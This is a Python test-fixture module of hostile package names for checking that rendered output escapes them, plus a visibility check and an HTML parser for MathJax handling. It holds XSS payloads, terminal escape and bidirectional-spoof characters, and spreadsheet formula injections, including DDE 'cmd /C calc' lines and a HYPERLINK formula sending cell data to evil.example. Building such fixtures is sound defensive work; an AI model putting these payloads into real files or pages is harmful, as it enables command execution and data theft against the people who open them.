"""Names that do something where they are shown, if they are let: what a lock file of others may hold."""

from __future__ import annotations

from html.parser import HTMLParser

__all__ = ["FORMULAS", "HIDDEN", "MARKUP", "STRANGE_NAMES", "TEX", "Shown", "is_seen"]

TEX = [
    r"$\href{https://evil.example/}{core}$",
    r"$\text{api}$",
    "a$b",
    "c$d",
    r"$$\frac12$$",
    r"\(\href{https://evil.example/}{x}\)",
    r"\[x^2\]",
    r"\begin{align}x\end{align}",
    r"$\frac{",
    r"\ref{x} $\class{mathjax_process}{y}$",
]
"""Set as formulas by MathJax, or by matplotlib."""

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</div></td><a href=https://evil.example/>core</a>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "</svg></title><u>x</u>",
    "<!--",
    "]]>",
    "&lt;b&gt;",
    "&#x202e;",
    "{{x}}<% x %>${x}",
    "[core](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "**core** `api` # app | a | b |",
    "\\N \\G \\l",
    "#quot;core#quot;",
    "[bold red]core[/]",
    "%(x)s {0} %s",
]
"""Of HTML, SVG, Markdown, DOT, Mermaid, rich and format strings."""

HIDDEN = [
    *("nul\0x", "bell\a", "back\b\b\b\bcore", "tab\tx", "two\nlines", "cr\rcore", "form\fx", "esc\x1b[2J\x1b[31m"),
    "link\x1b]8;;https://evil.example/\x07core\x1b]8;;\x07",
    *("del\x7f", "next\x85line", "csi\x9b31m", "two\u2028lines", "two\u2029parts"),
    *("lre\u202ax", "rle\u202bx", "pdf\u202cx", "lro\u202dx", "rlo\u202etxt.exe"),
    *("lri\u2066x", "rli\u2067x", "fsi\u2068x", "pdi\u2069x", "lrm\u200ex", "rlm\u200fx", "alm\u061cx"),
    *("zero\u200bwidth", "non\u200cjoiner", "join\u200der", "word\u2060joiner", "bom\ufeffx", "soft\xadhyphen"),
    *("times\u2062x", "deprecated\u206ax", "annotation\ufff9x", "note\U0001d173x"),
    *("tag\U000e0041\U000e0042x", "variation\U000e0100x", "filler\u3164x", "jamo\u115fx", "half\uffa0x", "cgj\u034fx"),
    *("hard\xa0blank", "private\ue000x", "none\uffffx", "braille\u2800x"),
]
"""Obeyed by a terminal, turning the line around, or not seen."""

FORMULAS = [
    *("=1+1", "+1", "-1+1", "\t=1", "\r=1", "\n=1", " =1", "\xa0=1", "\u200b=1", "\ufeff=1", "\0\t=1", "  \n =1"),
    *("＝1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "⁼1", "⁺1", "₊1"),
    *("=cmd|' /C calc'!A0", "-1+1+cmd|' /C calc'!A0", "@SUM(1)", "@sum (1)", "@СУММ(1)", "@ 1", "@A1|x!A0", "@A1!x"),
    *("%0A=1", "|calc", "＝cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"x")'),
    *("core;=1", "core\t=1", "core,=1", "core\n=1", "core|=1", 'core;"=1', "core; -1+cmd|' /C calc'!A0", "a;＝1"),
    *("core\u2028=1", "core;\n;=1", "core,@SUM(1)", "core\r\n=1", "core;+A1!x"),
]
"""Run by a spreadsheet, in the cell where they stand or in one that another separator makes."""

STRANGE_NAMES = list(
    dict.fromkeys(
        [*TEX, *MARKUP, *HIDDEN, *FORMULAS[:12], "_hidden", "__init__", "@acme/icons", "שלום", "é", "e\u0301"]
    )
)
"""All kinds; a plan may be made of them."""


def is_seen(text: str, lines: bool = False) -> bool:
    """Tell whether all of a text is seen where it is shown, and nothing of it obeyed; with `lines` it may have some."""
    unseen = set("\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180f\u2800\u3164\uffa0") | {
        chr(code) for code in range(0xE0100, 0xE01F0)
    }
    return all((char.isprintable() and char not in unseen) or (lines and char == "\n") for char in text)


class Shown(HTMLParser):
    """What a page shows: text and attributes, the elements there are, and text that MathJax would look at."""

    _VOID = ("br", "hr", "img", "meta", "input")

    def __init__(self, html: str) -> None:
        """Read it."""
        super().__init__(convert_charrefs=True)
        self.texts: list[str] = []
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.set_as_tex: list[str] = []
        self._open: list[bool] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Take an element in."""
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)
        self.texts += [value or "" for name, value in attrs if name != "src"]
        classes = (dict(attrs).get("class") or "").split()
        assert not any(name.endswith("_process") for name in classes)
        if tag not in self._VOID:
            inside = bool(self._open and self._open[-1])
            self._open.append(inside or {"mathjax_ignore", "tex2jax_ignore"} <= set(classes))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Take an element without content in."""
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)

    def handle_endtag(self, tag: str) -> None:
        """Leave an element."""
        if tag not in self._VOID:
            self._open.pop()

    def handle_data(self, data: str) -> None:
        """Take text in."""
        self.texts.append(data)
        if not (self._open and self._open[-1]):
            self.set_as_tex.append(data)
